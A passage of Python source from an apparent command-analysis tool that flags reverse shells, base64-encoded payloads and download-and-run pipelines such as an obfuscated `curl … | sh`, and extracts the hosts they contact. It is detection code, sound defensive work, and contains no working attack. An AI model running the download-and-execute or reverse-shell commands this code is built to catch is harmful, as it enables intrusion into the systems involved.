        out.indicators.append(Indicator(BASE64_EXEC, cmd[:300], _first_host(cmd), context))
    for rx in _REVERSE_SHELL:
        m = rx.search(cmd)
        if m:
            out.indicators.append(Indicator(REVERSE_SHELL, _snip(cmd, m), _first_host(cmd), context))
            break


def _encoded_blobs(text: str, depth: int, context: str, out: Analysis, uploads: list[str]) -> None:
    """Long base64 strings are decoded and analysed too: an obfuscated `curl … | sh` is still one
    (context 'encoded' when nothing in the command decodes and runs it)."""
    for m in _B64_BLOB.finditer(text):
        blob = m.group(0)
        if "[REDACTED" in text[max(0, m.start() - 12): m.start()]:
            continue
        try:
            raw = base64.b64decode(blob + "=" * (-len(blob) % 4), validate=True)
            decoded = raw.decode("utf-8")
        except (binascii.Error, UnicodeDecodeError, ValueError):
            continue
        if not all(ch.isprintable() or ch in "\n\t\r" for ch in decoded):
            continue
        inner, ups = analyze_command(decoded, depth + 1, context)
        for ind in inner.indicators:
            if ind.kind in (DOWNLOAD_EXEC, REVERSE_SHELL) and context != ENCODED:
                out.indicators.append(Indicator(BASE64_EXEC, f"base64 of: {ind.detail}"[:300], ind.host, context))
        out.indicators += inner.indicators
        out.hosts += [h if context != ENCODED else HostRef(h.host, h.port, h.url, "mention") for h in inner.hosts]
        if context != ENCODED:
            uploads += ups


def _in_context(h: HostRef, context: str) -> HostRef:
    return h if context == COMMAND else HostRef(h.host, h.port, h.url, _text_intent(context))


def _text_intent(context: str) -> str:
    return "written" if context == WRITTEN else "mention"


def _same_file(run: str, f: str) -> bool:
    r, f = run.strip("'\""), f.strip("'\"")
    if r == f:
        return True
    rb, fb = r.rsplit("/", 1)[-1], f.rsplit("/", 1)[-1]
    return bool(rb) and rb == fb and (r.endswith("/" + fb) or f.endswith("/" + rb) or r == "./" + fb)


def _first_host(text: str) -> str | None:
    hs = hostmod.urls_in(text)
    if hs:
        return hs[0].host
    for w in text.split():
        h = hostmod.bare_host(w)
        if h is not None and ("@" in w or ":" in w or re.match(r"^\d", h.host)):
            return h.host
    return None


def _snip(text: str, m: re.Match) -> str:
    a = max(0, m.start() - 80)
    return text[a: m.end() + 120].strip()[:300]


def _snip_text(text: str, n: int) -> str:
    return text[:n]
